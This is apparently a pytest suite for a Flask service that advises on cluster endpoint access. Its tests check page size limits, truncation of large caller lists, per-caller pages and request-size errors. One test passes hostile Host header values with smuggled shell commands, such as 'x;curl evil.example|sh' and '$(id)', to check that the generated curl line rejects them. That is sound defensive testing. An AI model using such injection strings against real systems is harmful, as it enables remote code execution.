"""The page of a large cluster: bounded, with nothing left out unsaid, and made beside the others who ask."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any, TypeVar

import pytest
from flask.testing import FlaskClient

from service.app import create_app
from service.settings import MAX_BODY_BYTES, Records, Settings
from service.web.page.editing import MOST_SHOWN
from service.web.page.gathering import MOST_FLOWS, MOST_ROWS
from service.web.page.showing import address_of_service
from service.web.page.telling import curl_line, written
from tests.bench.growth import large_question
from tests.page.reading import Page
from tests.page.test_asking import QUESTION, question_of, send

MOST_BYTES = 1_000_000
_T = TypeVar("_T")


@pytest.fixture(scope="module")
def client() -> FlaskClient:
    """A page that takes questions of a megabyte."""
    return create_app(Settings(records=Records.OFF, max_body_bytes=1024 * 1024)).test_client()


def differing(count: int) -> dict[str, Any]:
    """A question whose callers have nothing in common: each has an address of its own, half of them a listed one."""
    people = [
        {
            "name": f"person-{number:03}",
            "kind": "operator",
            "location": {"at": "internet", "source_cidrs": [f"52.78.{number}.0/28"]},
        }
        for number in range(count)
    ]
    access = {"public": True, "private": False, "public_access_cidrs": [f"52.78.{n}.0/28" for n in range(0, count, 2)]}
    cluster = {"name": "differing", "endpoint_access": access}
    return {"cluster": cluster, "consumers": people, "include": [], "requirements": {"public_access_cidrs": "keep"}}


def test_the_page_of_two_hundred_subnets_and_callers_is_bounded_and_names_everybody(client: FlaskClient) -> None:
    question = large_question(200, 200)

    page = send(client, do="decide", question=json.dumps(question))

    assert len(page.html.encode()) < MOST_BYTES
    assert question_of(page) == question
    (table,) = page.all("table", **{"class": "who cards"})
    assert set(re.findall(r"(?:nodes|pod)-[0-9]+", table.text)) == {it["name"] for it in question["consumers"]}
    flows = page.all("ul", **{"class": "flows"})
    assert sum(it.text.count("What happens at each") for it in flows) < 60
    assert "In the same way:" in page.text


def test_the_report_of_callers_who_are_alike_tells_them_once_and_names_everybody(client: FlaskClient) -> None:
    question = large_question(200, 200)

    report = client.post("/v1/decisions", json=question, headers={"Accept": "text/markdown"}).text

    assert len(report) < 100_000
    paths = report[report.index("## The traffic path in private") :].partition("\n## ")[0]
    assert set(re.findall(r"(?:nodes|pod)-[0-9]+", paths)) >= {it["name"] for it in question["consumers"]}
    assert len(re.findall(r"^nodes-", paths, re.MULTILINE)) == 1


def test_what_does_not_fit_is_counted_and_each_caller_has_a_page(client: FlaskClient) -> None:
    question = differing(120)

    page = send(client, do="decide", question=json.dumps(question))

    left = len(question["consumers"]) - MOST_ROWS
    assert f"Not in this table: {left} further callers." in page.text
    assert f"Not shown here: {120 - MOST_FLOWS} further flows." in page.text
    shown = [it.text for it in page.all("th", scope="row") if it.text.strip().startswith("person-")]
    assert len(shown) == MOST_ROWS
    names = [it.text for it in page.all("option") if it.text.startswith("person-")]
    assert set(names) >= {it["name"] for it in question["consumers"]}

    one = send(client, do="caller", caller="person-119", question=json.dumps(question))

    assert one.one("h1").text == "person-119"
    assert "52.78.119.0/28 is not on the list" in one.text
    assert not re.search("person-(?!119)", one.text.partition('"cluster"')[2].partition("Back to")[2])
    assert question_of(one) == question


def test_what_is_stopped_is_shown_before_what_arrives(client: FlaskClient) -> None:
    """Every second of them is locked out today, and their flows are those that stand in the page."""
    page = send(client, do="decide", question=json.dumps(differing(120)))

    (flows, *_) = page.all("ul", **{"class": "flows"})
    assert all(int(number) % 2 for number in re.findall("person-([0-9]{3})", flows.text))


def test_a_caller_of_a_kept_decision_has_an_address(kept: FlaskClient) -> None:
    id_ = kept.post("/v1/decisions", json=differing(30)).get_json()["decision_id"]

    page = Page(kept.get(f"/decisions/{id_}").text)
    one = Page(kept.get(f"/decisions/{id_}?caller=person-007").text)

    assert page.one("form", **{"class": "one"}).attributes["action"] == f"/decisions/{id_}"
    assert one.one("h1").text == "person-007"
    assert [it.attributes["href"] for it in one.all("a") if it.text == "Back to the whole decision"] == [
        f"/decisions/{id_}"
    ]
    assert kept.get(f"/decisions/{id_}?caller=nobody").status_code == 404


def test_a_caller_whom_nobody_knows_is_said(client: FlaskClient) -> None:
    page = send(client, 404, do="caller", caller="nobody", question=json.dumps(QUESTION))

    assert "tells of no caller" in page.text


def test_a_small_decision_offers_no_page_for_each_caller(unkept: FlaskClient) -> None:
    page = send(unkept, do="take", document=json.dumps(QUESTION))

    assert page.all("select", name="caller") == []
    assert "further" not in page.text.partition("further questions")[2]


def test_callers_without_a_row_in_the_form_stay_as_they_are(client: FlaskClient) -> None:
    question = differing(MOST_SHOWN + 5)
    form = send(client, do="decide", question=json.dumps(question)).form()

    same = question_of(send(client, **form, do="change"))
    fewer = question_of(send(client, **form | {"c0.gone": "1"}, do="change"))

    assert same == question
    assert fewer["consumers"] == question["consumers"][1:]


@pytest.mark.parametrize("do", ["decide", "take"])
def test_a_question_is_too_large_for_the_page_when_it_is_for_the_api(unkept: FlaskClient, do: str) -> None:
    question = QUESTION | {"cluster": QUESTION["cluster"] | {"labels": {"note": "a" * MAX_BODY_BYTES}}}
    field = "document" if do == "take" else "question"

    response = unkept.post("/", data={"do": do, field: json.dumps(question)})
    of_api = unkept.post("/v1/decisions", json=question)

    assert response.status_code == of_api.status_code == 413
    assert f"larger than {MAX_BODY_BYTES} bytes" in Page(response.text).text


def test_blanks_in_a_question_do_not_make_it_too_large(unkept: FlaskClient) -> None:
    page = send(unkept, do="take", document=json.dumps(QUESTION) + " " * MAX_BODY_BYTES)

    assert question_of(page) == QUESTION


def test_a_long_question_is_asked_from_a_file(client: FlaskClient) -> None:
    page = send(client, do="decide", question=json.dumps(large_question(200, 200)))

    assert page.one("pre", id="curl").text.endswith("--data-binary @question.json")
    assert "save the whole question as JSON" in page.text


def test_a_question_is_written_so_that_it_reads_as_itself() -> None:
    for question in (QUESTION, {}, {"cluster": {"a": [], "b": {}, "c": [[1, "x"], {"d": None}]}, "e": [1, 2.5, True]}):
        assert json.loads(written(question)) == question


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("decide.example.com", "http://decide.example.com/"),
        ("[2001:db8::1]:8443", "http://[2001:db8::1]:8443/"),
        ("x;curl evil.example|sh", "http://127.0.0.1:8080/"),
        ("evil.example/$(id)", "http://127.0.0.1:8080/"),
        ("someone@evil.example", "http://127.0.0.1:8080/"),
        ("a b", "http://127.0.0.1:8080/"),
    ],
)
def test_a_host_that_is_none_stands_in_no_command(unkept: FlaskClient, host: str, address: str) -> None:
    with unkept.application.test_request_context("/", headers={"Host": host}):
        assert address_of_service() == address


def test_a_command_is_quoted() -> None:
    assert curl_line({"a": "it's"}, "http://h/").endswith("""'{"a":"it'"'"'s"}'""")


def test_what_takes_long_is_made_apart_and_what_does_not_is_not() -> None:
    made: list[str] = []

    def apart(call: Callable[[], _T]) -> _T:
        made.append("apart")
        return call()

    app = create_app(Settings(records=Records.OFF, max_body_bytes=1024 * 1024), apart=apart).test_client()
    send(app, do="decide", question=json.dumps(QUESTION))
    before = len(made)
    send(app, do="decide", question=json.dumps(large_question(200, 200)))
    of_page = len(made)
    app.post("/v1/decisions", json=large_question(200, 200), headers={"Accept": "text/markdown"})

    assert before == 0
    assert of_page > before
    assert len(made) > of_page
